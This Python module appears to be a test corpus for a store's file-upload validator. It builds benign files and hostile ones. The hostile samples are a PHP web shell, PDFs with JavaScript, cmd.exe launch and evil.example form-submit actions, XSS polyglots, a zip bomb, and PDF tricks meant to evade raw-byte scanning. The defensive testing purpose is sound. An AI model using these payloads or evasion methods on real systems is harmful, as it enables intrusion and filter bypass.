"""The upload corpus: about eighty files, good and bad, built here byte by byte, for every upload of the store.

Each entry says what its content is (`kind`: pdf, jpg, png, doc, docx, or None for something no upload
takes) and why a bad one must be refused (`reason`: "type", "size", "empty", or for a PDF that is one
"pdf_active", scripts, attached files or actions, and "pdf_unchecked", objects that cannot be read).
Sizes at and over the limit are built per upload, since each upload has its own limit.

The PDFs that do something are each a way past a check that searches the raw bytes: names written with
#xx escapes, dictionaries packed in a compressed object stream, an object hidden in another's string or
in stream data where only the cross-reference finds it, the actions the old check did not know.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.accounts.test_registration_documents import WORD_97, compound_file, docm, docx, jar, zip_of
from tests.storefront.upload_builders import (
    PAGE,
    PAGES,
    ascii_hex,
    catalog,
    jpeg,
    jpeg_segment,
    pdf,
    pdf_at,
    pdf_with_object_stream,
    png,
    png_chunk,
    stream,
)

PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
JPG = jpeg()
PNG = png()
DOC = compound_file(WORD_97)
DOCX = docx()
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 64
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><body><script>fetch('/orders/').then(r=>r.text()).then(alert)</script></body></html>"


# PDFs that act: each action as a viewer finds it, the catalog (object 1) opening the document with it
# unless said otherwise.
OPEN_JS = b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"


def _acting(action: bytes, *more: tuple[int, bytes]) -> bytes:
    """A one-page PDF whose catalog runs `action` on opening."""
    return pdf({1: catalog(b"/OpenAction" + action), 2: PAGES, 3: PAGE, **dict(more)})


def _with_page(page_extra: bytes, *more: tuple[int, bytes], catalog_extra: bytes = b"") -> bytes:
    """A one-page PDF whose page dictionary (object 3) holds `page_extra`."""
    return pdf({1: catalog(catalog_extra), 2: PAGES, 3: PAGE[:-2] + page_extra + b">>", **dict(more)})


def _link(action: bytes) -> bytes:
    """A page with one link annotation that runs `action` when clicked."""
    return _with_page(b"/Annots[4 0 R]", (4, b"<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A" + action + b">>"))


# An object only the cross-reference finds, inside a string of object 4 or inside the data of stream 4:
# the catalog opens the document with object 5, `/S/JavaScript` written with #xx escapes.
_HIDDEN = b"<</S/J#61va#53cript/JS(app.alert(1))>>"


def _hidden_in_string() -> bytes:
    before = b"1 0 obj\n" + catalog(b"/OpenAction 5 0 R") + b"\nendobj\n2 0 obj\n" + PAGES + b"\nendobj\n3 0 obj\n" + PAGE + b"\nendobj\n"
    hidden = b"4 0 obj\n(a string, with ) an object inside: 5 0 obj " + _HIDDEN + b" endobj (the end)\nendobj\n"
    offset = len(before) + hidden.index(b"5 0 obj")
    return pdf_at([(1, 0, before), (4, len(before), hidden), (5, offset, b"")])


def _hidden_in_stream_data() -> bytes:
    before = b"1 0 obj\n" + catalog(b"/OpenAction 5 0 R") + b"\nendobj\n2 0 obj\n" + PAGES + b"\nendobj\n3 0 obj\n" + PAGE + b"\nendobj\n"
    hidden = b"4 0 obj\n" + stream(b"", b"\x00\x01binary 5 0 obj " + _HIDDEN + b" endobj \x02\x03") + b"\nendobj\n"
    offset = len(before) + hidden.index(b"5 0 obj")
    return pdf_at([(1, 0, before), (4, len(before), hidden), (5, offset, b"")])


def _zip_bomb() -> bytes:
    """An object stream that inflates to 64 MB of spaces (about 64 KB compressed)."""
    inflater_food = b"1 0 " + b" " * (64 * 1024 * 1024)
    return pdf_with_object_stream({3: PAGE}, {1: catalog(), 2: PAGES}, encode=lambda content: zlib.compress(inflater_food, 9))


def _motion_photo() -> bytes:
    """A phone's motion photo: the JPEG, then the video after its end of image."""
    return JPG + struct.pack(">I", 24) + b"ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00\x00\x00\x08free" + bytes(range(256)) * 8


def _bad_crc(content: bytes) -> bytes:
    flipped = bytearray(content)
    flipped[content.index(b"IDAT") + 5] ^= 0x01
    return bytes(flipped)


def _padded(content: bytes, size: int) -> bytes:
    """The content followed by a PDF comment up to exactly `size` bytes (readers ignore trailing bytes)."""
    return content + b"%" + b"x" * (size - len(content) - 1)


@dataclass(frozen=True)
class Sample:
    id: str
    name: str
    build: Callable[[int], bytes]  # the upload's size limit -> the file's bytes
    kind: str | None  # what the content is, when it is one of the kinds some upload takes
    reason: str | None = None  # why it is refused everywhere: "type", "size" or "empty"


def _fixed(content: bytes) -> Callable[[int], bytes]:
    return lambda limit: content


CORPUS: tuple[Sample, ...] = (
    # Each allowed kind, under its usual names.
    Sample("pdf", "invoice.pdf", _fixed(PDF), "pdf"),
    Sample("jpg", "photo.jpg", _fixed(JPG), "jpg"),
    Sample("jpeg", "photo.JPEG", _fixed(JPG), "jpg"),
    Sample("png", "screen.png", _fixed(PNG), "png"),
    Sample("doc", "camara.doc", _fixed(DOC), "doc"),
    Sample("docx", "camara.docx", _fixed(DOCX), "docx"),
    Sample("pdf-named-jpg", "scan.jpg", _fixed(PDF), "pdf"),  # the content decides, not the name
    Sample("pdf-at-limit", "big.pdf", lambda limit: _padded(PDF, limit), "pdf"),
    # Odd names on good content: kept, stored under a generated name, labelled harmlessly.
    Sample("name-traversal", "../../x.pdf", _fixed(PDF), "pdf"),
    Sample("name-windows-traversal", "..\\..\\windows\\x.pdf", _fixed(PDF), "pdf"),
    Sample("name-absolute", "/etc/cron.d/x.pdf", _fixed(PDF), "pdf"),
    Sample("name-nul", "x.pdf\x00.exe", _fixed(PDF), "pdf"),
    Sample("name-very-long", "a" * 400 + ".pdf", _fixed(PDF), "pdf"),
    Sample("name-rtl-override", "invoice\u202efdp.exe", _fixed(PDF), "pdf"),
    Sample("name-unicode", "cámara de comercio ñ 商业.pdf", _fixed(PDF), "pdf"),
    Sample("name-no-extension", "scan", _fixed(PDF), "pdf"),
    Sample("name-double-extension", "scan.pdf.exe", _fixed(PDF), "pdf"),
    Sample("name-header-injection", 'a";\r\nX-Injected: 1;.pdf', _fixed(PDF), "pdf"),
    Sample("name-dotfile", ".htaccess", _fixed(PNG), "png"),
    Sample("name-html", "<img src=x onerror=alert(1)>.png", _fixed(PNG), "png"),
    # Executables and scripts under a document's name.
    Sample("exe-as-pdf", "invoice.pdf", _fixed(EXE), None, "type"),
    Sample("exe-double-extension", "invoice.exe.pdf", _fixed(EXE), None, "type"),
    Sample("elf-as-jpg", "photo.jpg", _fixed(ELF), None, "type"),
    Sample("svg-as-png", "logo.png", _fixed(SVG), None, "type"),
    Sample("svg", "logo.svg", _fixed(SVG), None, "type"),
    Sample("html-as-pdf", "invoice.pdf", _fixed(HTML), None, "type"),
    Sample("php-as-jpg", "shell.jpg", _fixed(b"<?php system($_GET['c']); ?>"), None, "type"),
    Sample("text-as-doc", "notes.doc", _fixed(b"Just some text, not a Word document.\n"), None, "type"),
    Sample("gif-as-png", "anim.png", _fixed(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"), None, "type"),
    # Polyglots: a real signature, and a page or a script inside.
    Sample("pdf-html-polyglot", "invoice.pdf", _fixed(b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n"), None, "type"),
    Sample("pdf-html-polyglot-at-end", "invoice.pdf", _fixed(PDF + b"<!DOCTYPE html><iframe src=//evil.example>"), None, "type"),
    Sample("jpg-html-polyglot", "photo.jpg", _fixed(JPG[:-2] + b"<script>alert(1)</script>\xff\xd9"), None, "type"),
    Sample("png-php-polyglot", "screen.png", _fixed(PNG + b"<?php echo 1; ?>"), None, "type"),
    Sample("pdf-javascript", "form.pdf", _fixed(PDF.replace(b"/Type/Catalog", b"/Type/Catalog" + OPEN_JS)), None, "pdf_active"),
    Sample("pdf-launch", "form.pdf", _fixed(PDF.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>")), None, "pdf_active"),
    # PDFs that act, past a search of the raw bytes: names with #xx escapes...
    Sample("pdf-javascript-hex-escaped", "form.pdf", _fixed(_acting(b"<</S/J#61vaScript/JS(app.alert(1))>>")), None, "pdf_active"),
    Sample("pdf-launch-hex-escaped", "form.pdf", _fixed(_acting(b"<</S/#4C#61#75nch/F(cmd.exe)>>")), None, "pdf_active"),
    Sample("pdf-js-key-hex-escaped", "form.pdf", _fixed(_acting(b"<</S/Java#53cript/#4A#53(app.alert(1))>>")), None, "pdf_active"),
    # ...dictionaries packed in a compressed object stream, found only through a cross-reference stream...
    Sample("pdf-javascript-in-object-stream", "form.pdf", _fixed(pdf_with_object_stream({3: PAGE}, {1: catalog(OPEN_JS), 2: PAGES})), None, "pdf_active"),
    Sample(
        "pdf-launch-hex-escaped-in-object-stream",
        "form.pdf",
        _fixed(pdf_with_object_stream({3: PAGE}, {1: catalog(b"/OpenAction<</S/L#61unch/F(cmd.exe)>>"), 2: PAGES})),
        None,
        "pdf_active",
    ),
    Sample(
        "pdf-javascript-in-object-stream-deflated-twice",
        "form.pdf",
        _fixed(pdf_with_object_stream({3: PAGE}, {1: catalog(OPEN_JS), 2: PAGES}, encode=lambda c: zlib.compress(zlib.compress(c)), filters=b"/Filter[/FlateDecode/FlateDecode]")),
        None,
        "pdf_active",
    ),
    Sample(
        "pdf-javascript-in-object-stream-typed-by-reference",
        "form.pdf",
        _fixed(pdf_with_object_stream({3: PAGE, 4: b"/ObjStm"}, {1: catalog(OPEN_JS), 2: PAGES}, dictionary=b"/Type 4 0 R")),
        None,
        "pdf_active",
    ),
    Sample("pdf-javascript-in-untyped-object-stream", "form.pdf", _fixed(pdf_with_object_stream({3: PAGE}, {1: catalog(OPEN_JS), 2: PAGES}, dictionary=b"")), None, "pdf_active"),
    # ...objects hidden where only the cross-reference table finds them...
    Sample("pdf-javascript-hidden-in-a-string", "form.pdf", _fixed(_hidden_in_string()), None, "pdf_active"),
    Sample("pdf-javascript-hidden-in-stream-data", "form.pdf", _fixed(_hidden_in_stream_data()), None, "pdf_active"),
    # ...and the actions and contents the raw search did not name.
    Sample("pdf-javascript-name-tree", "form.pdf", _fixed(pdf({1: catalog(b"/Names<</JavaScript<</Names[(x) 4 0 R]>>>>"), 2: PAGES, 3: PAGE, 4: b"<</S/JavaScript/JS(app.alert(1))>>"})), None, "pdf_active"),
    Sample("pdf-page-additional-actions", "form.pdf", _fixed(_with_page(b"/A#41<</O<</S/Named/N/Print>>>>")), None, "pdf_active"),
    Sample("pdf-open-action-uri", "form.pdf", _fixed(_acting(b"<</S/URI/URI(https://evil.example/)>>")), None, "pdf_active"),
    Sample("pdf-open-action-indirect-uri", "form.pdf", _fixed(_acting(b" 4 0 R", (4, b"<</S/URI/URI(https://evil.example/)>>"))), None, "pdf_active"),
    Sample("pdf-open-action-goto-then-named", "form.pdf", _fixed(_acting(b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/Named/N/Print>>>>")), None, "pdf_active"),
    Sample(
        "pdf-embedded-file",
        "form.pdf",
        _fixed(pdf({1: catalog(b"/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>"), 2: PAGES, 3: PAGE, 4: b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>", 5: stream(b"/Type/EmbeddedFile", b"MZ")})),
        None,
        "pdf_active",
    ),
    Sample(
        "pdf-file-attachment-annotation",
        "form.pdf",
        _fixed(_with_page(b"/Annots[4 0 R]", (4, b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 10 10]/FS<</F(a.exe)/E#46<</F 5 0 R>>>>>>"), (5, stream(b"", b"MZ")))),
        None,
        "pdf_active",
    ),
    Sample("pdf-xfa-form", "form.pdf", _fixed(pdf({1: catalog(b"/AcroForm<</Fields[]/XFA 4 0 R>>"), 2: PAGES, 3: PAGE, 4: stream(b"", b"<xdp:xdp/>")})), None, "pdf_active"),
    Sample("pdf-submit-form", "form.pdf", _fixed(_link(b"<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>")), None, "pdf_active"),
    Sample("pdf-import-data", "form.pdf", _fixed(_link(b"<</S/ImportData/F(data.fdf)>>")), None, "pdf_active"),
    Sample("pdf-go-to-remote", "form.pdf", _fixed(_link(b"<</S/GoToR/F(\\\\evil.example\\share\\x.pdf)/D[0/Fit]>>")), None, "pdf_active"),
    Sample("pdf-go-to-embedded", "form.pdf", _fixed(_link(b"<</S/GoToE/T<</R/C/N(a.pdf)>>/D[0/Fit]>>")), None, "pdf_active"),
    Sample("pdf-rich-media", "form.pdf", _fixed(_with_page(b"/Annots[4 0 R]", (4, b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 10 10]>>"))), None, "pdf_active"),
    # PDFs whose objects cannot be read, so cannot be checked.
    Sample(
        "pdf-object-stream-ascii-hex",
        "form.pdf",
        _fixed(pdf_with_object_stream({3: PAGE}, {1: catalog(OPEN_JS), 2: PAGES}, encode=ascii_hex, filters=b"/Filter/ASCIIHexDecode")),
        None,
        "pdf_unchecked",
    ),
    Sample(
        "pdf-object-stream-predictor",
        "form.pdf",
        _fixed(pdf_with_object_stream({3: PAGE}, {1: catalog(), 2: PAGES}, filters=b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>")),
        None,
        "pdf_unchecked",
    ),
    Sample("pdf-object-stream-damaged", "form.pdf", _fixed(pdf_with_object_stream({3: PAGE}, {1: catalog(OPEN_JS), 2: PAGES}, encode=lambda c: zlib.compress(c)[:-40])), None, "pdf_unchecked"),
    Sample("pdf-object-stream-zip-bomb", "form.pdf", _fixed(_zip_bomb()), None, "pdf_unchecked"),
    # PDFs that only show pages: a destination or a GoTo on opening, a web link, objects in an object
    # stream, the words of the actions in text.
    Sample("pdf-open-action-destination", "guide.pdf", _fixed(_acting(b"[3 0 R/Fit]")), "pdf"),
    Sample("pdf-open-action-goto", "guide.pdf", _fixed(_acting(b" 4 0 R", (4, b"<</S/GoTo/D[3 0 R/FitH 200]>>"))), "pdf"),
    Sample("pdf-web-link", "guide.pdf", _fixed(_link(b"<</S/URI/URI(https://www.example.com/support)>>")), "pdf"),
    Sample("pdf-object-stream", "guide.pdf", _fixed(pdf_with_object_stream({3: PAGE}, {1: catalog(b"/OpenAction[3 0 R/Fit]"), 2: PAGES})), "pdf"),
    Sample(
        "pdf-text-about-javascript",
        "guide.pdf",
        _fixed(
            _with_page(
                b"/Contents 4 0 R",
                (4, stream(b"", b"BT /F1 12 Tf (Never /Launch a file or run /JavaScript) Tj ET % /JS in a comment")),
                catalog_extra=b"/Info<</Title(The /JavaScript and /Launch actions, explained)>>",
            )
        ),
        "pdf",
    ),
    # Images: the signature of one in front of a page or an SVG, markup in an image's text, bytes after
    # a PNG's end, a broken chunk.
    Sample("svg-after-jpeg-signature", "photo.jpg", _fixed(b"\xff\xd8\xff\xe0" + b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), None, "type"),
    Sample("svg-after-png-signature", "screen.png", _fixed(b"\x89PNG\r\n\x1a\n<svg/onload=alert(document.domain)>"), None, "type"),
    Sample("html-after-png-signature", "screen.png", _fixed(b"\x89PNG\r\n\x1a\n<img src=x onerror=alert(1)>"), None, "type"),
    Sample("jpg-then-html-handler", "photo.jpg", _fixed(JPG + b"<img src=x onerror=alert(1)>"), None, "type"),
    Sample("jpg-comment-svg", "photo.jpg", _fixed(jpeg(jpeg_segment(0xFE, b'<svg><a href="javascript:alert(1)"><text>x</text></a></svg>'))), None, "type"),
    Sample("png-deflated-text-script", "screen.png", _fixed(png(png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"<script>alert(1)</script>")))), None, "type"),
    Sample("png-text-svg", "screen.png", _fixed(png(png_chunk(b"tEXt", b"Comment\x00<svg><animate attributeName=href to=javascript:alert(1) /></svg>"))), None, "type"),
    Sample("png-then-zip", "screen.png", _fixed(PNG + zip_of({"a.txt": "hello"})), None, "type"),
    Sample("png-bad-crc", "screen.png", _fixed(_bad_crc(PNG)), None, "type"),
    Sample("jpg-header-only", "photo.jpg", _fixed(JPG[:20]), None, "type"),
    # Images as phones and editors write them: text metadata, a video after a motion photo's end of image.
    Sample("png-with-text", "screen.png", _fixed(png(png_chunk(b"tEXt", b"Software\x00GIMP 2.10"), png_chunk(b"iTXt", b"Title\x00\x00\x00es\x00T\xc3\xadtulo\x00Pantalla rota"))), "png"),
    Sample("jpg-with-comment", "photo.jpg", _fixed(jpeg(jpeg_segment(0xFE, b"Taken with a phone; screen cracked <at the corner>"))), "jpg"),
    Sample("jpg-motion-photo", "photo.jpg", _fixed(_motion_photo()), "jpg"),
    # Macro documents and other containers dressed as Word.
    Sample("docm", "report.docm", _fixed(docm()), None, "type"),
    Sample("docm-as-docx", "report.docx", _fixed(docm()), None, "type"),
    Sample("doc-with-vba", "report.doc", _fixed(compound_file(WORD_97 + [("Macros", [("VBA", [("_VBA_PROJECT", None), ("dir", None)])])])), None, "type"),
    Sample("jar-as-docx", "report.docx", _fixed(jar()), None, "type"),
    Sample("zip-as-docx", "report.docx", _fixed(zip_of({"a.txt": "hello"})), None, "type"),
    Sample("workbook-as-doc", "report.doc", _fixed(compound_file([("Workbook", None)])), None, "type"),
    # Sizes.
    Sample("pdf-one-byte-over", "big.pdf", lambda limit: _padded(PDF, limit + 1), None, "size"),
    Sample("empty", "empty.pdf", _fixed(b""), None, "empty"),
)
